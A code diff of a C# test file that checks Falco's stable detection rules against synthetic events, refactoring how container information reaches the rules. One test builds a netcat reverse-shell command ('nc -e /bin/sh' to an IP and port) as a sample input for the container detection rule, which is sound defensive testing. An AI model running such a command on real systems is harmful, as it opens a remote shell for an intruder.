@@ -8,23 +8,17 @@ namespace Vigil.Detection.Tests;
 /// <summary>Falco's stable rules on synthetic Vigil events. Needs the Falco rule files (see <see cref="FalcoRulesLocation"/>).</summary>
 public sealed class StableRulesEvaluationTests
 {
-    private sealed class FixedContainer(ContainerInfo container) : IContainerResolver
-    {
-        public ContainerInfo Resolve(ulong cgroupId) => container;
-    }
-
     private static readonly PasswdUserResolver Users = new(
         PasswdUserResolver.ParseIdFile(["root:x:0:0::/root:/bin/bash", "daemon:x:1:1::/:/usr/sbin/nologin", "alice:x:1000:1000::/home/alice:/bin/bash"]),
         PasswdUserResolver.ParseIdFile(["root:x:0:", "alice:x:1000:"]));
 
-    private static RuleSet Load(IContainerResolver? containers = null) =>
+    private static RuleSet Load() =>
         RuleLoader.Load([FalcoRulesLocation.StableRules], new RuleLoadOptions
         {
-            Environment = new RuleEnvironment { Users = Users, Containers = containers ?? new HostOnlyContainerResolver() },
+            Environment = new RuleEnvironment { Users = Users },
         }).RuleSet;
 
-    private static IEnumerable<string> Fired(VigilEvent e, IContainerResolver? containers = null) =>
-        Load(containers).Evaluate(e).Select(d => d.RuleName);
+    private static IEnumerable<string> Fired(VigilEvent e) => Load().Evaluate(e).Select(d => d.RuleName);
 
     private static ProcessInfo Running(string binary, string comm) => Process(binary, [binary], ShellSession(), pid: 3000, comm: comm);
 
@@ -90,12 +84,13 @@ public sealed class StableRulesEvaluationTests
     }
 
     [Fact]
-    public void Container_rules_use_the_container_resolver()
+    public void Container_rules_read_the_container_enrichment_found()
     {
         ProcessExecEvent netcat = Exec("/usr/bin/nc", ["nc", "-e", "/bin/sh", "10.0.0.1", "4444"]);
+        netcat.Context!.Container = ContainerInfo.Host;
         Assert.DoesNotContain("Netcat Remote Code Execution in Container", Fired(netcat));
-        var inContainer = new FixedContainer(new ContainerInfo("abc123", "web", "docker.io/library/nginx", false));
-        Assert.Contains("Netcat Remote Code Execution in Container", Fired(netcat, inContainer));
+        netcat.Context.Container = new ContainerInfo { Runtime = ContainerRuntime.Docker, Id = new string('a', 64), CgroupPath = "/docker/" + new string('a', 64) };
+        Assert.Contains("Netcat Remote Code Execution in Container", Fired(netcat));
     }
 
     [Fact]
